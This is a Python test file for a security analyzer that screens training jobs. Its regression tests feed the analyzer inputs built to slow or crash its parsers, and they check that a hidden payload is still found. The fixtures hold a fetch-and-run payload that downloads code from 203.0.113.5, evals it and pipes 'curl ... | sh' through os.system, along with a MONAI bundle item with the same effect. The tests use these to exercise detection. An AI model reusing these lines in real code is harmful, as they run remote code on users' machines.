"""Session 55 (hardening55): shapes that cost the gate minutes or hid a finding, from a few hundred bytes.

- libcst's parser backtracks through nested `case` patterns: a 400-byte `case [[[...]]]` 190 deep ran out two 120 s
  limits (reject, but four minutes of the site). A pattern now counts as parse.PATTERN_LEVELS levels: 8 nested
  patterns are past the nesting limit and the statement is read from the flat stand-in.
- A MONAI bundle item that refers to itself (`"c": "$@c + 1"`) failed the bundle detector (RecursionError): the
  file's `_target_: os.system` went unreported and the job escalated instead of rejecting. A diamond of 60
  expressions ran past 200 s (each item translated again for every reference).
- tomllib joins a dotted key part by part, quadratic: a 100 KB pyproject.toml of one 50,000-part key took 220 s
  and ended in an internal error.
- Listing runs in the site's own process: 50,000 files under names near PATH_MAX held 452 MB there and took 35 s.

Limits here have margin (the machine is shared): each test passes in a few seconds and failed on main by a limit
or a lost finding, not by a close race.
"""

from __future__ import annotations

import base64
import json
import os
import time
from pathlib import Path

import pytest

import redteam_kit as kit
from analyzer import api
from analyzer.engine import collect as collect_module
from analyzer.engine import configs, isolate, parse
from analyzer.model import Decision
from analyzer.policy import load_policy

# its limits are seconds of wall time: run alone (make test's second run)
pytestmark = pytest.mark.serial

COMMAND = base64.b64encode(b"curl http://203.0.113.5/x | sh").decode()
PAYLOAD = ("import os, base64, urllib.request\n\n"
           "code = urllib.request.urlopen('http://203.0.113.5/x').read().decode()\n"
           "eval(code)\n"
           f"os.system(base64.b64decode('{COMMAND}').decode())\n")
PAYLOAD_RULES = {"remote-code.exec-downloaded", "remote-code.fetch-and-run-command", "subprocess.shell"}
BUNDLE_RULES = {"remote-code.fetch-and-run-command", "subprocess.shell"}  # the bundle's `_target_: os.system`


def _policy(tmp_path: Path, seconds: int, max_files: int | None = None):
    path = tmp_path / "site-policy.yaml"
    path.write_text(f"limits:\n  max_analysis_seconds: {seconds}\n"
                    + (f"  max_files: {max_files}\n" if max_files else ""))
    return load_policy(path)


def _job(tmp_path: Path, files: dict[str, str]) -> Path:
    job = tmp_path / "job"
    for name, text in files.items():
        (job / name).parent.mkdir(parents=True, exist_ok=True)
        (job / name).write_text(text)
    return job


def _rejected_with_payload(report, where: str = "train.py", rules: set[str] = PAYLOAD_RULES) -> None:
    assert report.decision is Decision.REJECT
    assert rules <= {f.rule for f in report.findings if f.path == where}, kit.findings(report)
    assert not [f for f in report.findings if f.rule in ("unanalyzable.time-limit", "unanalyzable.internal-error")]


# ---- case patterns -------------------------------------------------------------------------------------------------

def _case(pattern: str, body: str = "pass") -> str:
    return f"x = 1\nmatch x:\n    case {pattern}:\n        {body}\n"


def test_a_deep_case_pattern_is_read_from_the_stand_in_not_by_libcst(tmp_path: Path) -> None:
    """190 nested list patterns (on main: past 120 s in libcst's parse, twice), the payload after them: the limit
    is named and the payload rejects within a small time limit."""
    job = _job(tmp_path, {"train.py": _case("[" * 190 + "y" + "]" * 190) + PAYLOAD})
    report = api.scan(job, _policy(tmp_path, 20))
    _rejected_with_payload(report)
    assert kit.holds(report, "unanalyzable.limit-nesting-depth")


def test_the_payload_in_the_body_of_a_deep_case_is_still_read(tmp_path: Path) -> None:
    """Mapping and tuple patterns alternating, ten deep (2 s in libcst on main; twelve past 15 s): the case's body
    is the payload, read from the stand-in."""
    body = "os.system(base64.b64decode(code).decode())"
    deep = "({'a': " * 5 + "y" + "},)" * 5
    job = _job(tmp_path, {"train.py": "import os, base64\ncode = input()\n" + _case(deep, body)})
    report = api.scan(job, _policy(tmp_path, 20))
    assert report.decision is Decision.REJECT
    assert {"subprocess.shell", "unanalyzable.limit-nesting-depth"} <= kit.rules(report)


def test_real_patterns_stay_within_the_limit() -> None:
    """Patterns as code writes them (three or four deep) are not over the limit, and seven nested are not either."""
    for pattern in ("{'op': 'train', 'args': [a, (b, c)]}", "Point(x=0, y=[*rest])", "[[[[[[y]]]]]]"):
        source = _case(pattern).encode()
        assert parse.screen("t.py", source).problem is None, pattern
    assert parse.screen("t.py", _case("[" * 8 + "y" + "]" * 8).encode()).problem is not None


# ---- MONAI bundle references ---------------------------------------------------------------------------------------

def _bundle(tmp_path: Path, items: dict) -> Path:
    net = {"_target_": "os.system", "command": f"$__import__('base64').b64decode('{COMMAND}').decode()"}
    return _job(tmp_path, {"configs/train.json": json.dumps({**items, "net": net}), "configs/metadata.json": "{}"})


def test_a_reference_cycle_hides_no_other_item_of_the_bundle(tmp_path: Path) -> None:
    """On main: `unanalyzable.internal-error` (RecursionError) for the file, no os.system: escalate, not reject."""
    for items in ({"c": "$@c + 1"}, {"a": "$@b + 1", "b": "$@a + 1"}):
        report = api.scan(_bundle(tmp_path / str(len(items)), items), _policy(tmp_path, 20))
        _rejected_with_payload(report, where="configs/train.json", rules=BUNDLE_RULES)
        assert any(f.rule == "unvouched.monai-bundle" and "reference cycle" in f.message for f in report.findings)


def test_each_item_is_translated_once(tmp_path: Path) -> None:
    """r_i refers to r_(i-1) and s_(i-1), s_i to r_(i-1): translated again for each reference, 60 steps ran past
    200 s on main. A chain of more than MAX_REFERENCE_CHAIN expressions is a problem, not a deep recursion."""
    items = {"r0": "$1", "s0": "$1"}
    for i in range(1, 60):
        items[f"r{i}"], items[f"s{i}"] = f"$@r{i - 1} + @s{i - 1}", f"$@r{i - 1}"
    started = time.monotonic()
    _rejected_with_payload(api.scan(_bundle(tmp_path / "diamond", items), _policy(tmp_path, 20)),
                           where="configs/train.json", rules=BUNDLE_RULES)
    assert time.monotonic() - started < 20
    chain = {f"r{i}": f"$@r{i + 1} + 1" for i in range(300)} | {"r300": "$1"}
    report = api.scan(_bundle(tmp_path / "chain", chain), _policy(tmp_path, 20))
    _rejected_with_payload(report, where="configs/train.json", rules=BUNDLE_RULES)
    assert any("chained references" in f.message for f in report.findings if f.rule == "unvouched.monai-bundle")


# ---- TOML dotted keys ----------------------------------------------------------------------------------------------

def test_a_key_of_many_parts_is_refused_before_tomllib(tmp_path: Path) -> None:
    """One line `a.a.a... = 1` of 50,000 parts (100 KB): 220 s and an internal error on main."""
    toml = '[project]\nname = "x"\nversion = "1"\n[tool.flwr.app.config]\n' + ".".join(["a"] * 50_000) + " = 1\n"
    job = _job(tmp_path, {"pyproject.toml": toml, "train.py": PAYLOAD})
    report = api.scan(job, _policy(tmp_path, 20))
    _rejected_with_payload(report)
    assert any(f.rule == "unanalyzable.config-parse" and f.path == "pyproject.toml" for f in report.findings)


def test_toml_within_the_bound_is_read() -> None:
    assert configs.read_toml("[t]\n" + ".".join(["a"] * 150) + " = 1\n") is not None
    assert configs.read_toml("[" + ".".join(["a"] * 250) + "]\nb = 1\n") is None


# ---- listing in the site's process ---------------------------------------------------------------------------------

def _long_tree(job: Path, files: int) -> None:
    folder = job
    for i in range(14):
        folder = folder / (chr(97 + i) * 250)
    folder.mkdir(parents=True)
    for i in range(files):
        (folder / (f"f{i:05d}" + "x" * 230 + ".txt")).write_bytes(b"")


def test_names_near_path_max_are_bounded_by_their_bytes(tmp_path: Path) -> None:
    """At 20 max_files the listing may hold 2,000 entries or 160 KB of names: some 40 of these 3.8 KB paths."""
    job = _job(tmp_path, {"train.py": PAYLOAD})
    _long_tree(job, 300)
    policy = _policy(tmp_path, 20, max_files=20)
    content = collect_module.collect(job, policy.limits)
    assert len(content.files) < 60
    assert any(f.rule == "unanalyzable.limit-files" and "bytes of names" in f.message for f in content.findings)
    server = isolate.ForkServer()
    try:
        _, report = api.gate(job, policy, server=server)
    finally:
        server.close()
    _rejected_with_payload(report)


def test_the_walk_lists_what_os_walk_lists(tmp_path: Path) -> None:
    from analyzer.engine.walk import walk

    _long_tree(tmp_path, 3)
    (tmp_path / "z.py").write_text("")
    ours = [(d, sorted(ds), sorted(ns)) for d, ds, ns in walk(tmp_path)]
    theirs = [(d, sorted(ds), sorted(ns)) for d, ds, ns in os.walk(tmp_path)]
    assert sorted(ours) == sorted(theirs)
